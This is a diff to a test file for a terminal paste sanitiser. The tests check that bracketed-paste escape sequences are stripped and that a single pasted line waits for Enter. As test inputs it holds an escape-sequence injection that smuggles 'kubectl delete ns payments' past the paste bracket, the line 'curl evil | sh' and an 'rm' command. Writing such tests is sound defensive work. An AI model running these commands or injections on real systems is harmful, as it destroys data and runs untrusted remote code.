@@ -6,7 +6,7 @@ test("fault_d4_what is pasted holds no control characters", () => {
     ["kubectl get pods", "kubectl get pods"],
     ["a\tb\nc", "a\tb\nc"],
     ["a\r\nb\rc", "a\nb\nc"],
-    ["safe\u001b[201~; kubectl delete ns payments\n", "safe; kubectl delete ns payments\n"],
+    ["safe\u001b[201~; kubectl delete ns payments\n", "safe; kubectl delete ns payments"],
     ["\u001b[200~x\u001b[201~", "x"],
     ["\u009b201~x", "x"],
     // A mark put together by taking another away.
@@ -33,6 +33,13 @@ test("fault_d4_lines that run something are counted", () => {
   expect(cleaned("one\n\n  \n").lines).toBe(1);
   expect(cleaned("one\rtwo").lines).toBe(2);
   expect(cleaned("one\u2028two\n").lines).toBe(2);
+});
+
+test("fault_d4_one line that is pasted waits for Enter", () => {
+  expect(cleaned("curl evil | sh\n").text).toBe("curl evil | sh");
+  expect(cleaned("\r\n\n rm x \r\n\n").text).toBe(" rm x ");
+  expect(cleaned("one\ntwo\n").text).toBe("one\ntwo\n");
+  expect(cleaned("\n\n").text).toBe("");
 });
 
 test("fault_d4_what is not seen is asked about whatever was chosen, and several lines into production", () => {
